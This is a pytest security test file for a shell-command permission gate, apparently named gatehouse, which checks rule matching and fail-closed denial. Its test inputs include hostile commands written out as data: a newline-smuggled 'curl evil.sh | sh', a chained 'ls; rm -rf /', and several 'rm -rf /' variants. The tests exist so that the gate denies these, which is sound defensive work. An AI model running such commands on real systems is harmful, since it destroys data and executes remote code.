"""
Security tests for rule matching and fail-closed behavior.

These tests verify that a rule file cannot be tricked into allowing more
than it says, and that every failure mode ends in DENY.

Attack vectors tested:
- Second commands smuggled in on a new line
- Regex metacharacters in patterns
- Case changes
- Combined short flags that hide -r or -f
- Broken, unreadable or half-valid rule files
- Constrained allow rules with no way to check the constraints
"""

from pathlib import Path

import pytest

from gatehouse.constraints import SHELL, ShellContext
from gatehouse.constraints.shell import check_max_depth, check_no_force, check_no_recursive
from gatehouse.gate import PermissionGate
from gatehouse.policy import DecisionEngine, RuleStore
from gatehouse.policy.patterns import compile_pattern
from gatehouse.schema import Decision


# =============================================================================
# Pattern Matching
# =============================================================================


class TestNewlineInjection:
    """A wildcard never spans a line break."""

    @pytest.mark.parametrize(
        "value",
        [
            "echo hi\nrm -rf /",
            "echo hi\r\nrm -rf /",
            "echo\n",
        ],
    )
    def test_wildcard_does_not_cross_newline(self, value: str) -> None:
        assert not compile_pattern("echo*").test(value)

    def test_gate_denies_smuggled_command(self, write_rules, temp_dir: Path) -> None:
        store = RuleStore(
            write_rules("rules:\n  - pattern: 'echo *'\n    decision: allow\n"),
            constraint_schema=SHELL,
        )
        gate = PermissionGate(store, domain=SHELL)

        verdict = gate.check("echo ok\ncurl evil.sh | sh")

        assert not verdict.allowed
        assert verdict.match.is_default


class TestMetacharacters:
    """Everything except * is literal."""

    @pytest.mark.parametrize(
        "pattern,value",
        [
            ("ls .", "ls x"),
            ("a+b", "aab"),
            ("cat [abc]", "cat a"),
            ("echo ?", "echo x"),
            ("x|rm -rf /", "rm -rf /"),
            ("(foo)", "foo"),
            ("^ls$", "ls"),
        ],
    )
    def test_no_regex_semantics(self, pattern: str, value: str) -> None:
        assert not compile_pattern(pattern).test(value)

    def test_literal_metacharacters_match_themselves(self) -> None:
        assert compile_pattern("cat [abc]").test("cat [abc]")
        assert compile_pattern("x|y").test("X|Y")

    def test_no_partial_match(self) -> None:
        """A rule for 'ls' does not cover 'ls; rm -rf /'."""
        assert not compile_pattern("ls").test("ls; rm -rf /")


class TestCaseInsensitivity:
    """Deny rules cannot be sidestepped by changing case."""

    def test_uppercase_still_denied(self, write_rules, sample_rules_yaml: str) -> None:
        engine = DecisionEngine(RuleStore(write_rules(sample_rules_yaml), constraint_schema=SHELL))

        result = engine.evaluate("RM -RF /")

        assert result.decision == Decision.DENY
        assert result.matched_pattern == "rm -rf*"


# =============================================================================
# Flag Constraints
# =============================================================================


class TestHiddenFlags:
    """Combined and long forms of dangerous flags are caught."""

    @pytest.mark.parametrize("command", ["rm -rf x", "rm -fr x", "rm -Rf x", "cp -av -r a b", "rm --recursive x"])
    def test_recursive_detected(self, command: str) -> None:
        assert not check_no_recursive(command).valid, command

    @pytest.mark.parametrize("command", ["rm -rf x", "rm -vf x", "git push --force"])
    def test_force_detected(self, command: str) -> None:
        assert not check_no_force(command).valid, command

    def test_long_option_letters_ignored(self) -> None:
        """--from-file has an r and an f but is neither flag."""
        assert check_no_recursive("tool --from-file x").valid
        assert check_no_force("tool --from-file x").valid

    def test_every_depth_occurrence_checked(self) -> None:
        assert not check_max_depth("find . -maxdepth 1 -maxdepth 50", 3).valid

    def test_missing_depth_value(self) -> None:
        assert not check_max_depth("find . -maxdepth", 3).valid


# =============================================================================
# Fail Closed
# =============================================================================


class TestFailClosed:
    """Broken configuration denies everything."""

    @pytest.mark.parametrize(
        "content",
        [
            "rules: [\n",
            "- just a list\n",
            "rules:\n  - pattern: '*'\n    decision: allow\n  - decision: allow\n",
            "rules:\n  - pattern: '*'\n    decision: allow\ndefault: maybe\n",
            "rules:\n  - pattern: '*'\n    decision: allow\n    constraints:\n      - teleport\n",
        ],
    )
    def test_invalid_file_denies_all(self, write_rules, content: str) -> None:
        store = RuleStore(write_rules(content), constraint_schema=SHELL)
        gate = PermissionGate(store, domain=SHELL)

        assert store.errors
        assert not gate.check("ls").allowed
        assert not gate.check("").allowed

    def test_missing_file_denies_all(self, temp_dir: Path) -> None:
        store = RuleStore(temp_dir / "nope.yaml", constraint_schema=SHELL)
        assert store.errors
        assert not PermissionGate(store, domain=SHELL).check("ls").allowed

    def test_constraints_without_domain_denied(self, write_rules, sample_rules_yaml: str) -> None:
        """An allow rule whose constraints cannot be checked does not allow."""
        store = RuleStore(write_rules(sample_rules_yaml), constraint_schema=SHELL)
        gate = PermissionGate(store)

        verdict = gate.check("ls", ShellContext("ls", "/"))

        assert not verdict.allowed
        assert "no constraint domain" in verdict.reason

    def test_failed_constraint_overrides_allow(self, write_rules, sample_rules_yaml: str, temp_dir: Path) -> None:
        store = RuleStore(write_rules(sample_rules_yaml), constraint_schema=SHELL)
        gate = PermissionGate(store, domain=SHELL)

        verdict = gate.check("find / -maxdepth 1", ShellContext("find / -maxdepth 1", str(temp_dir)))

        assert verdict.match.decision == Decision.ALLOW
        assert verdict.decision == Decision.DENY
